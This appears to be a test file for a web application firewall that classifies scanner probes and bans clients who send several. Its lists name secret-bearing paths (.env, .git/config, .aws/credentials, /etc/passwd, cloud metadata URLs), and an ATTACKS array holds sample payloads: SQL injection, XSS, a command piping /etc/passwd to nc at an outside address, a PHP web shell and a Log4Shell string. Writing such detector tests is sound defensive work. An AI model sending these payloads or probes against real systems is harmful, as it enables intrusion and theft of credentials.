import { describe, expect, test } from "vitest";
import { probeShape, probes } from "../../src/detectors/probes.ts";
import { recommended } from "../../src/recommended.ts";
import { readTarget } from "../../src/request.ts";
import { memoryStore } from "../../src/stores/memory.ts";
import type { Decision } from "../../src/types.ts";
import { createWaf } from "../../src/waf.ts";

const shape = (target: string): string | undefined => probeShape(readTarget(target).path);

describe("a probe", () => {
  test.each<readonly [rule: string, targets: readonly string[]]>([
    [
      "probes/dotfile",
      [
        "/.env",
        "/.env.local",
        "/.env.production.bak",
        "/api/.env",
        "/.git/config",
        "/.git/HEAD",
        "/.git",
        "/.svn/entries",
        "/.aws/credentials",
        "/.ssh/config",
        "/.htpasswd",
        "/.DS_Store",
        "/.vscode/settings.json",
        "/.claude/settings.json",
        "/.streamlit/secrets.toml",
        "/%2eenv",
        "/.%65nv",
        "/%252eenv",
        "/.ENV",
        "/.env;.css",
        "/.env%00.png",
        "/static/../.env",
        "/static/..%2f.env",
        "//.env",
        "/.env?x=1",
      ],
    ],
    [
      "probes/backup",
      [
        "/index.js.bak",
        "/app.js~",
        "/dump.sql",
        "/backup.zip",
        "/db.tar.gz",
        "/site-backup.rar",
        "/www.tgz",
        "/database.sql.bak",
        "/.config.swp.bak/x.swp",
      ],
    ],
    [
      "probes/console",
      [
        "/phpmyadmin/",
        "/phpMyAdmin/index.php",
        "/actuator/env",
        "/actuator",
        "/server-status",
        "/manager/html",
        "/wp-admin/",
        "/wp-content/plugins/",
        "/cgi-bin/luci",
        "/_ignition/execute-solution",
        "/debug/pprof/",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/solr/admin/info",
        "/_profiler/phpinfo",
        "/latest/meta-data/iam/security-credentials/",
        "/computeMetadata/v1/",
        "/opc/v2/instance/",
        "/openstack/latest/meta_data.json",
        "/metadata/instance?api-version=2021-02-01",
        "/+CSCOE+/logon.html",
        "/balancer-manager",
        "/xxl-job-admin/toLogin",
        "/CVS/Entries",
      ],
    ],
    [
      "probes/foreign-script",
      [
        "/wp-login.php",
        "/blog/wp-login.php",
        "/xmlrpc.php",
        "/phpinfo.php",
        "/admin.php",
        "/config.php",
        "/shell.php",
        "/info.php",
        "/x/adminer-4.8.1.php",
        "/config.php.bak",
        "/test.php/extra",
      ],
    ],
    [
      "probes/project-file",
      [
        "/docker-compose.yml",
        "/composer.lock",
        "/id_rsa",
        "/web.config",
        "/WEB-INF/web.xml",
        "/app/secrets.yml",
        "/db.sqlite3",
        "/terraform.tfstate",
      ],
    ],
    [
      "probes/system-file",
      [
        "/etc/passwd",
        "/../../etc/passwd",
        "/download/..%2f..%2fetc/shadow",
        "/proc/self/environ",
        "/static/%2e%2e/%2e%2e/windows/win.ini",
        "/%c0%ae%c0%ae/etc/passwd",
      ],
    ],
    ["probes/legacy", ["/cgi-bin/test", "/cgi-bin/", "/fcgi-bin/x", "/names.nsf", "/webapp/examples/jsp"]],
    ["probes/foreign-script", ["/uploads/x.php.jpg", "/x/reverse-shell.php", "/img/c99.php", "/a/up.aspx"]],
    [
      "probes/backup",
      ["/server.log", "/web.config::$DATA", "/wp-config.inc.swp", "/dump.sql.gz", "/wp-config.php_old", "/index.php-bak", "/Main.java"],
    ],
    ["probes/dotfile", ["/.env.bak", "/deep/er/.svnignore", "/.config/x"]],
    ["probes/console", ["/_vti_bin/shtml.dll", "/x/phpmyadmin/", "/app/actuator/env", "/phpinfo"]],
    ["probes/project-file", ["/Gemfile", "/app/yarn.lock", "/docker-compose.prod.yml"]],
    [
      "probes/suspicious-name",
      [
        "/index.php",
        "/page.jsp",
        "/old/view.aspx",
        "/.hidden",
        "/...",
        "/blog/.well-known-facts",
        "/settings.yml",
        "/files/server.log",
        "/cgi-bin/mailman/listinfo",
        "/install.sh",
        "/wp-json/wp/v2/users",
        "/raw/main/.env.example",
        "/blob/container/file.bak",
      ],
    ],
  ])("of the kind %s is recognised", (rule, targets) => {
    for (const target of targets) expect(shape(target), target).toBe(rule);
  });

  test.each([
    "/",
    "/profile.php-guide",
    "/articles/phpmyadmin.html",
    "/mailman/cgi",
    "/a/b/c/Gemfile",
    "/sitemap.xml.gz",
    "/js/site.zip",
    "/docs/index.php-migration",
    "/environment",
    "/env",
    "/git",
    "/.well-known/security.txt",
    "/.well-known/acme-challenge/x.y",
    "/feedback",
    "/sqlite-docs",
    "/administration",
    "/seashells",
    "/docs/gitignore",
    "/manager",
    "/manager/team",
    "/latest",
    "/latest/metadata",
    "/docs/latest/meta-data",
    "/api/admin",
    "/admin",
    "/admin/users",
    "/backup",
    "/backups/today",
    "/static/app.min.js",
    "/images/photo.jpg",
    "/v2.1/items",
    "/users/j.smith",
    "/users/a.b@example.com",
    "/files/report.pdf",
    "/download/archive.zip",
    "/releases/v1.2.3.tar.gz",
    "/console",
    "/debug",
    "/etc",
    "/etc/",
    "/hosts",
    "/vendor/acme",
    "/solr",
    "/sitemap.xml",
    "/robots.txt",
    "/favicon.ico",
    "/manifest.webmanifest",
    "/a.b.c/d",
    "/data.json",
    "/_next/static/chunks/main.js",
    "/api/v1/users",
    "/blog/what-is-wp-content",
    "/wp-content/uploads/2026/photo.jpg",
    "/wp-content/themes/ours/logo.png",
    "/cgit/linux.git/tree/fs/proc/self.c",
    "/scripts/wrap.backup/main.py",
  ])("is not seen in the honest path %s", (target) => {
    expect(shape(target)).toBeUndefined();
  });

  test.each<readonly [rule: string, targets: readonly string[]]>([
    [
      "probes/dotfile",
      ["/.env%3Fx", "/.env%253Fx", "/.git/config%23", "/.git%20/config", "/.env/.", "/.env.", "/.env%20", "/.env%0a", "/.env/%2e"],
    ],
    [
      "probes/project-file",
      ["/wp-config.php/.", "/wp-config.php%3Fa=1", "/id_rsa.", "/id_rsa%20.", "/id_rsa/", "/web.config%20%20", "/web.config.."],
    ],
    [
      "probes/foreign-script",
      ["/wp-login.php.", "/wp-login.php%20", "/wp-login.php%09", "/wp-login.php%0a", "/blog/wp-login.php%3Faction=x", "/xmlrpc.php%23x"],
    ],
    [
      "probes/backup",
      [
        "/dump.sql%3F",
        "/%23index.php%23",
        "/%23index.php%23;v=1",
        "/dump.sql%3Fa/b",
        "/dump.sql%23a/b/c",
        "/dump.sql.",
        "/dump.sql/.",
        "/app.js~/",
        "/app.js~%20",
        "/settings.py.old/",
        "/settings.py.old.",
        "/backup.zip/.",
        "/backup.zip%20",
      ],
    ],
    ["probes/console", ["/server-status%3Fauto", "/phpmyadmin%20/", "/phpmyadmin./", "/manager%20/html.", "/actuator./env%23"]],
    ["probes/system-file", ["/etc/passwd%3F", "/etc%20/passwd."]],
    ["probes/suspicious-name", ["/index.php%20", "/index.php.", "/page.jsp%3Fid=1", "/...", "/..%20."]],
  ])("of the kind %s is recognised behind tails that servers take off", (rule, targets) => {
    for (const target of targets) expect(shape(target), target).toBe(rule);
  });

  test.each([
    "/questions/what-is-a-dump.sql%3F",
    "/questions/what-is-a-dump.sql%3F/answers/3",
    "/questions/where_is_my_database.sqlite%3F",
    "/faq/who%20reads%20my.log%3F",
    "/wiki/C%23",
    "/tags/c%23/questions",
    "/companies/acme-inc.",
    "/wiki/St.",
    "/wiki/AC/DC%20",
    "/really%3F",
    "/what%3F/now",
    "/%3Fenv",
    "/%23readme",
    "/drafts/%23shell",
    "/env.",
    "/env%20",
    "/git%3F",
    "/.well-known./x",
    "/.well-known/security.txt%20",
    "/docs/nginx.conf/",
    "/tags/web.py/",
    "/blog/how-to-read-a-dump.sql/",
    "/docs/database.sqlite3-guide/",
    "/packages/socket.io/",
    "/releases/v1.2.3/",
    "/users/a.b@example.com/",
  ])("is not seen in %s, which only looks as if it had such a tail", (target) => {
    expect(shape(target)).toBeUndefined();
  });

  test("of a project's file is no probe in a page that shows source code, only a suspicious name", () => {
    for (const name of ["Dockerfile", "docker-compose.yml", ".gitignore", "requirements.txt", ".github/workflows/ci.yml"]) {
      expect(shape(`/owner/project/blob/main/${name}`), name).toBe("probes/suspicious-name");
    }
    expect(shape("/owner/project/blob/main/.git/config")).toBe("probes/dotfile");
  });

  test("costs time linear in the path's length", () => {
    for (const unit of ["/.", ".php", "/etc", "%25", ";a", "a~/", "-backup-", "?", "a?", "#/", " .", ". ", "./", " x"]) {
      // At this length its square would be many minutes.
      expect(() => probeShape(`/${unit.repeat(500_000)}`), unit).not.toThrow();
    }
  });
});

describe("a client that probes", () => {
  const build = () => {
    let now = 1_000_000_000_000;
    const waf = createWaf(recommended({ waves: false, clock: () => now, headers: false, log: { warn() {}, error() {} } }));
    const visit = (target: string, status = 404): string => {
      const decision = waf.inspect({ method: "GET", target, headers: new Headers(), peer: "192.0.2.1" }) as Decision;
      waf.observe(decision, { status: decision.action === "block" ? decision.status : status, durationMs: 1 });
      return decision.action === "block" ? decision.rule : "pass";
    };
    return {
      visit,
      pass: (ms: number) => {
        now += ms;
      },
    };
  };

  test("is banned after three different probes, for five minutes", () => {
    const { visit, pass } = build();
    expect(["/.env", "/.git/config", "/wp-login.php", "/"].map((target) => visit(target))).toEqual([
      "probes/dotfile",
      "probes/dotfile",
      "probes/foreign-script",
      "blocklist/banned",
    ]);
    pass(300_000);
    expect(visit("/")).toBe("pass");
  });

  test("is not banned for one and the same probe again and again", () => {
    const { visit } = build();
    for (let count = 0; count < 20; count++) expect(visit("/.env")).toBe("probes/dotfile");
    expect(visit("/")).toBe("pass");
  });

  test("may follow old links: suspicious names count only when they were not found, and half", () => {
    const { visit } = build();
    for (let count = 0; count < 30; count++) expect(visit(`/shop/page${count}.jsp`, 200)).toBe("pass");
    for (let count = 0; count < 6; count++) expect(visit(`/gone${count}.php`, 404)).toBe("pass");
    expect(visit("/")).toBe("blocklist/banned");
  });

  test("and guesses words is banned by what was not there, never by what was", () => {
    const { visit } = build();
    for (const path of ["/admin", "/console", "/old", "/test", "/backup", "/swagger", "/manage", "/v1"])
      expect(visit(path, 200)).toBe("pass");
    for (const path of ["/administrator/", "/panel.html", "/api-docs", "/old/index.html", "/x/webdav", "/staging"])
      expect(visit(path)).toBe("pass");
    expect(visit("/")).toBe("blocklist/banned");
  });

  /** One attack each of kinds that content inspection is certain about. */
  const ATTACKS = [
    "/?q=1'+union+select+password+from+users--",
    "/?q=<script>alert(1)</script>",
    "/?q=;cat+/etc/passwd|nc+203.0.113.9+4444",
    "/?q=../../../../../../etc/passwd",
    "/?q={{7*7}}{{constructor.constructor('return+process')()}}",
    "/?q=<?php+system($_GET['c']);?>",
    "/?q=http://169.254.169.254/latest/meta-data/iam/",
    "/?q=${jndi:ldap://203.0.113.9/a}",
  ];

  test("is banned for attacks of six kinds, each counting half a probe, and not for one that it sends again", () => {
    const { visit } = build();
    const rules: string[] = [];
    while (rules.at(-1) !== "blocklist/banned" && rules.length < ATTACKS.length * 3) {
      const attack = ATTACKS[Math.floor(rules.length / 3)]!;
      rules.push(visit(attack));
    }
    const kinds = new Set(rules.slice(0, -1).map((rule) => rule.split("/")[0]));
    expect(rules.at(-1)).toBe("blocklist/banned");
    expect([...kinds]).not.toContain("score");
    expect(kinds.size).toBe(6);
  });

  test("is not banned for a report that quotes many attacks, however often it is sent", () => {
    const { visit } = build();
    const report = `/?q=${ATTACKS.map((attack) => attack.slice(4)).join("+and+")}`;
    for (let count = 0; count < 20; count++) expect(visit(report)).not.toBe("blocklist/banned");
    expect(visit("/")).toBe("pass");
  });

  test("is not banned for many missing pages of ordinary names", () => {
    const { visit } = build();
    for (let count = 0; count < 200; count++) visit(`/articles/a-missing-one-${count}`);
    expect(visit("/")).toBe("pass");
  });

  test("of hidden address is blocked probe by probe and banned by none", () => {
    const store = memoryStore();
    const waf = createWaf({ store, detectors: [probes()] });
    for (const target of ["/.env", "/.git/config", "/wp-login.php", "/backup.zip"]) {
      const decision = waf.inspect({ method: "GET", target, headers: new Headers(), peer: undefined }) as Decision;
      expect(decision.action).toBe("block");
      waf.observe(decision, { status: 403, durationMs: 1 });
    }
    expect(store.list("", 10, Date.now())).toEqual([]);
  });
});
